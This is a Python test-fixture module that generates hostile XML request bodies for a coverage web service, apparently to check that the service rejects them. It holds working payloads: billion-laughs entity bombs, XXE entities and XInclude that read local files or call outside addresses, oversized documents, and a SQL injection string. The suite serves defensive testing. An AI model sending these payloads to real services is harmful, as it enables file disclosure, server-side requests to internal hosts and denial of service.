"""Bodies that want to hurt: XML bombs, entities that read files and call addresses, depths, sizes, no XML at all.

Each is made around the root element of a request, so that the report can have the form of the version that was posted.
"""

import gzip
import json
from dataclasses import dataclass

SECRET = "a secret that no answer may hold"
MEGABYTE = 1_000_000


@dataclass(frozen=True, slots=True)
class Root:
    """The root element of a request."""

    name: str
    namespace: str
    service: str
    version: str

    def __call__(self, inside: str = "", attributes: str = "", prolog: str = "") -> str:
        """A document with something inside the root, on it, or before it."""
        namespace = f' xmlns="{self.namespace}"' if self.namespace else ""
        head = f'<{self.name}{namespace} service="{self.service}" version="{self.version}"{attributes}>'
        return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}{head}{inside}</{self.name}>'


def hostile_bodies(root: Root, address: str, path: str) -> dict[str, tuple[bytes, str]]:
    """Bodies and their content types.

    Args:
        root: Of the documents.
        address: `http://…` that must not be called.
        path: Of a file whose text must not come back.
    """
    texts = {**_bombs(root), **_external(root, address, path), **_large(root)}
    found = {name: (text.encode(), "text/xml") for name, text in texts.items()}
    found.update(_no_xml(root))
    good = root()
    for kind in (
        "application/json",
        "text/plain",
        "image/png",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "text/xml; charset=nothing",
        "application/xml; charset=utf-32",
        "x",
        "",
        "text/xml\x7f",
        "*/*",
    ):
        found[f"an XML request sent as {kind!r}"] = (good[:-1].encode(), kind)
    return found  # fmt: skip


def _bombs(root: Root) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    doctype = f"<!DOCTYPE {root.name} ["
    return {
        "billion laughs": root("&l11;", prolog=f'{doctype}<!ENTITY l0 "lol">{laughs}]>'),
        "billion laughs in an attribute": root(attributes=' x="&l11;"', prolog=f'{doctype}<!ENTITY l0 "l">{laughs}]>'),
        "quadratic blow-up": root("&q;" * 20_000, prolog=f'{doctype}<!ENTITY q "{"q" * 50_000}">]>'),
        "an entity of itself": root("&a;", prolog=f'{doctype}<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
        "parameter entities": root("&x;", prolog=f"{doctype}<!ENTITY % p \"<!ENTITY x '{'p' * 9999}'>\">%p;%p;%p;]>"),
        "defaulted attributes": root(prolog=f'{doctype}<!ATTLIST {root.name} x CDATA "{"d" * 100_000}">]>'),
        "a plain document type": root(prolog=f"<!DOCTYPE {root.name}>"),
        "entities that nobody declared": root("&nothing;"),
    }


def _external(root: Root, address: str, path: str) -> dict[str, str]:
    doctype = f"<!DOCTYPE {root.name}"
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    schema = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{0} {1}/x.xsd"'
    found = {
        "a document type from an address": root(prolog=f'{doctype} SYSTEM "{address}/x.dtd">'),
        "a public document type": root(prolog=f'{doctype} PUBLIC "-//X//Y" "{address}/x.dtd">'),
        "a schema from an address": root("<x/>", attributes=schema.format(root.namespace or "urn:x", address)),
        "a style sheet from an address": root(prolog=f'<?xml-stylesheet type="text/xsl" href="{address}/x.xsl"?>'),
        "a parameter entity from an address": root(prolog=f'{doctype} [<!ENTITY % p SYSTEM "{address}/p">%p;]>'),
    }
    for kind, target in (
        ("a file", f"file://{path}"),
        ("an address", address),
        ("a plain path", path),
        ("ftp", address.replace("http:", "ftp:")),
        ("a filter", f"php://filter/resource={path}"),
    ):
        entity = f'{doctype} [<!ENTITY x SYSTEM "{target}">]>'
        found[f"an entity from {kind}"] = root("&x;", prolog=entity)
        found[f"an entity from {kind} in an identifier"] = root(
            "<CoverageId>&x;</CoverageId><Identifier>&x;</Identifier>", prolog=entity
        )
        found[f"an inclusion of {kind}"] = root(include.format(target))
    return found  # fmt: skip


def _large(root: Root) -> dict[str, str]:
    return {
        "a hundred thousand levels": root("<x>" * 100_000 + "</x>" * 100_000),
        "a million levels that never close": root("<x>" * 1_000_000),
        "an attribute of nine megabytes": root(attributes=f' x="{"a" * 9 * MEGABYTE}"'),
        "a hundred thousand attributes": root(attributes="".join(f' a{i}="1"' for i in range(100_000))),
        "a hundred thousand namespaces": root(attributes="".join(f' xmlns:a{i}="u:{i}"' for i in range(100_000))),
        "a name of a megabyte": root(f"<{'n' * MEGABYTE}/>"),
        "nine megabytes of text": root(f"<CoverageId>{'t' * 9 * MEGABYTE}</CoverageId>"),
        "nine megabytes of elements": root("<x/>" * (9 * MEGABYTE // 4)),
        "nine megabytes of comments": root(f"<!--{'c' * 9 * MEGABYTE}-->"),
        "nine megabytes of instructions": root(f"<?x {'p' * 9 * MEGABYTE}?>"),
        "nine megabytes of CDATA": root(f"<![CDATA[{'d' * 9 * MEGABYTE}]]>"),
        "more than ten megabytes": root(f"<CoverageId>{'t' * 10 * MEGABYTE}</CoverageId>"),
        "fifty megabytes": root(f"<CoverageId>{'t' * 50 * MEGABYTE}</CoverageId>"),
    }


def _no_xml(root: Root) -> dict[str, tuple[bytes, str]]:
    good = root()
    keys = "&".join(f"k{i}=v" for i in range(100_000))
    bodies = {
        "blanks": b"   \n",
        "NULs": b"\x00" * 1000,
        "a NUL inside": good.replace("service", "ser\x00vice").encode(),
        "a truncated document": good[: len(good) // 2].encode(),
        "two roots": (good + good.partition("?>")[2]).encode(),
        "text after the root": f"{good} and more".encode(),
        "a mark of byte order alone": b"\xef\xbb\xbf",
        "another encoding than it says": good.encode("utf-16"),
        "a document type in another encoding": root("&x;", prolog=f"<!DOCTYPE {root.name} [<!ENTITY x 'lol'>]>")
        .replace("UTF-8", "UTF-16")
        .encode("utf-16"),
        "an unknown encoding": good.replace("UTF-8", "x-nothing").encode(),
        "bytes that are no UTF-8": good.replace('service="', 'service="\xff').encode("latin-1"),
        "control characters": good.replace('service="', 'service="\x01').encode(),
        "a reference to a forbidden character": root("&#0;&#x1F;&#xFFFF;").encode(),
        "a prefix without a namespace": root("<nothing:x/>").encode(),
        "an attribute twice": root(attributes=' service="x"').encode(),
        "JSON": json.dumps({"request": "GetCoverage"}).encode(),
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
        "compressed XML": gzip.compress(good.encode()),
        "a page": b"<!DOCTYPE html><html><body>hello</body></html>",
        "SQL": b"'; DROP TABLE items;--",
        "another version of XML": good.replace('version="1.0"', 'version="7.3"', 1)[:-3].encode(),
        "an unknown root": good.replace(root.name, "Nothing").encode(),
        "an unknown namespace": (good.replace(root.namespace, "urn:nothing") if root.namespace else good[:-1]).encode(),
        "a request of another standard": b'<Envelope xmlns="urn:x"><Body/></Envelope>',
    }
    found = {name: (body, "text/xml") for name, body in bodies.items()}
    found["a form of a hundred thousand keys"] = (keys.encode(), "application/x-www-form-urlencoded")
    found["a form of nine megabytes"] = (b"REQUEST=" + b"x" * 9 * MEGABYTE, "application/x-www-form-urlencoded")
    found["a form above ten megabytes"] = (b"REQUEST=" + b"x" * 11 * MEGABYTE, "application/x-www-form-urlencoded")
    found["a form that is none"] = (bytes(range(256)), "application/x-www-form-urlencoded")
    return found
